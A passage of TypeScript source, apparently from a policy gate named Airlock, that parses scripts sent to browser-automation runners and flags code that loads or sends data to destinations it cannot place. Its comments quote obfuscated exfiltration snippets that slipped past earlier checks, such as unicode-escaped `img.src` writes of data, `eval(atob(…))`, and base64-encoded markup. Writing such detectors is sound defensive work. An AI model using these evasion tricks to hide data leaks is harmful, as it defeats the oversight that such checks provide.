    out.push(t.type === tokTypes.name || t.type.keyword !== undefined ? String(value) : t.type === tokTypes.privateId ? `#${String(value)}` : source.slice(t.start, t.end));
    at = t.end;
  }
  let text = out.join('');
  if (source !== code) text = text.slice(1, text.endsWith(')') ? -1 : undefined);
  parsedSource = source;
  let why: string | undefined;
  let walked = 0;
  const stack: unknown[] = [ast];
  while (stack.length && !why) {
    const n = stack.pop();
    if (Array.isArray(n)) {
      for (const x of n) stack.push(x);
      continue;
    }
    if (!isNode(n)) continue;
    if (++walked > 1_000_000) return { text, why: 'is more code than is read' };
    if (n.type === 'AssignmentExpression' && isNode(n.left)) {
      const target = urlTarget(n.left);
      if (target && n.operator !== '=') why = `sets ${target.name} with ${String(n.operator)}, keeping part of its old value`;
      else if (target?.folded) why = `sets ${target.name} through a name made of pieces`;
      else if (!target && (n.left.type === 'ArrayPattern' || n.left.type === 'ObjectPattern') && patternSetsUrl(n.left)) why = 'sets a URL member by destructuring';
    } else if (n.type === 'UpdateExpression' && isNode(n.argument) && urlTarget(n.argument)) why = `changes ${urlTarget(n.argument)!.name} by ${String(n.operator)}`;
    else if ((n.type === 'ForOfStatement' || n.type === 'ForInStatement') && isNode(n.left) && n.left.type !== 'VariableDeclaration' && patternSetsUrl(n.left)) why = 'sets a URL member as a loop\'s variable';
    for (const [k, v] of Object.entries(n)) if (k !== 'type' && v && typeof v === 'object') stack.push(v);
  }
  return { text, ...(why ? { why } : {}) };
}

/** What one command's code or markup loads, and why it is refused if it is (a function of the method and the text alone). */
export interface CodeReading {
  found: string[];
  sends: boolean;
  /** More URLs than Airlock decides in one command (replaces an earlier refusal). */
  tooMany?: string;
  /** Code that sends a write with no URL it names (replaces an earlier refusal). */
  sendsNowhere?: string;
  /** The first load the reader cannot place (kept behind an earlier refusal). */
  unknown?: string;
}

/** A function given with its arguments is read with the globals they name (`boundGlobals`). */
export function functionRead(key: string, text: string, args: unknown): string {
  return key === 'functionDeclaration' ? boundGlobals(withoutSourcePragma(text), args) : text;
}

export function codeReading(method: string, text: string, ignored: ReadonlySet<string> = new Set()): CodeReading {
  // A tool's naming line dropped; a function called at once with literal arguments read with them.
  text = boundGlobals(withoutSourcePragma(text));
  const found = codeUrls(text).filter((u) => !ignored.has(u));
  // The code as a parser reads it too (twenty-fifth pass: `img.\u0073rc = '/c?d=' + d`,
  // `fetch /* */ (…)`, `location.href += …`, `[img.src] = […]` went on): names unescaped,
  // comments gone, and URL members set in ways no pattern of the text reads (`parsedCode`).
  // Read in its place (a comment runs nothing); a text no parser takes, as written and unescaped.
  const parsed = parsedCode(text);
  // Code the text decodes and runs is read as its code is (a load or write inside `eval(atob(…))`).
  const inner = decodedCode(text);
  const views = [...(parsed.failed ? [text, parsed.text] : [parsed.text]), ...inner];
  let unknown: string | undefined;
  if (parsed.why) unknown ??= `${method} ${parsed.why}: where it goes is not known here`;
  // Strings run as code (`eval('…')`), read as code in turn, three levels down at most.
  let run = runLiterals(parsed.text);
  for (let depth = 0, n = 0; depth < 3 && run.length; depth++) {
    const next: string[] = [];
    for (const s of run) {
      if (++n > 64) break;
      const p = parsedCode(s);
      views.push(...(p.failed ? [s, p.text] : [p.text]));
      if (p.why) unknown ??= `${method} runs code that ${p.why}: where it goes is not known here`;
      next.push(...runLiterals(p.text));
    }
    run = next;
  }
  const sends = views.some(codeSends);
  if (views.some(computedLoad)) unknown ??= `${method} loads a URL the code computes or makes relative to the page: where it goes is not known here`;
  const hidden = views.map(hiddenLoad).find((w) => w !== undefined);
  if (hidden) unknown ??= `${method} ${hidden}: where it loads or sends is not known here`;
  if (views.some(opensWebRtc)) unknown ??= `${method} opens a WebRTC connection: the STUN and TURN servers and peers it reaches are no URL Airlock decides`;
  // A decoded string is also markup the code may write (twenty-fifth pass: `el.innerHTML = atob('PGltZyBzcmM9L2M/…')`).
  if (views.some(codeMarkupRelative) || inner.some((v) => v.includes('<') && codeMarkupRelative(JSON.stringify(v)))) unknown ??= `${method} writes markup with a URL relative to the page: where it goes is not known here`;
  if (views.some(codeStylesRelative)) unknown ??= `${method} writes a style loading a URL relative to the page: where it goes is not known here`;
  return {
    found, sends, unknown,
    tooMany: found.length > MAX_CODE_URLS ? `${method} names more than ${MAX_CODE_URLS} URLs: more than Airlock decides in one command` : undefined,
    sendsNowhere: sends && !found.length ? `${method} sends a write to the page's own site or a relative URL: where it goes is not known here` : undefined,
  };
}


/** Names of JSON fields whose string a remote runner executes (as `code_names` in rego/sessions.rego, and CDP's and BiDi's). */
const CODE_FIELDS = new Set(['code', 'script', 'scripts', 'function', 'func', 'expression', 'js', 'javascript', 'evaluate', 'pagefunction', 'sourcecode', 'functiondeclaration']);

/**
 * Why code a JSON body gives a remote runner to execute loads or sends where no URL in it says, or
 * undefined (twenty-fifth pass): a field named as code (`script`: WebDriver's `POST
 * /session/{id}/execute/sync`; `code`, `expression`, `pageFunction`, `functionDeclaration` …) read
 * as a DevTools command's code is (`codeReading`): a load relative to the page or computed
 * (`location.replace('/c?d=' + arguments[0])`, `img.src = …`, markup with a relative URL, the
 * document's URL rewritten), a write with no URL named. The policy reads only the sinks its own
 * pattern names (`code_reaches_network`); the description carries this as `body.code_loads`.
 * At most 64 such strings of 256 KiB each (more is refused as unread), 16 levels down.
 */
export function bodyCodeLoads(json: unknown): string | undefined {
  const stack: Array<[unknown, string, number]> = [[json, '', 0]];
  let strings = 0;
  // (The whole tree is walked: a parsed body is bounded by the capture, and a budget that ran out
  // would either hold every large JSON body or let code hide past it.)
  while (stack.length) {
    const [v, key, depth] = stack.pop()!;
    if (typeof v === 'string') {
      if (!CODE_FIELDS.has(key) || v.trim() === '') continue;
      if (++strings > 64 || v.length > 256 * 1024) return 'gives a runner more code than is read';
      const r = codeReading('code', v);
      const why = r.unknown ?? r.sendsNowhere;
      if (why) return why.replace(/^code /, '');
      continue;
    }
    if (!v || typeof v !== 'object' || depth > 16) continue;
    if (Array.isArray(v)) for (const x of v) stack.push([x, key, depth + 1]);
    else for (const [k, x] of entriesOnce(v)) stack.push([x, k.toLowerCase().replace(/[-_]/g, ''), depth + 1]);
  }
  return undefined;
}
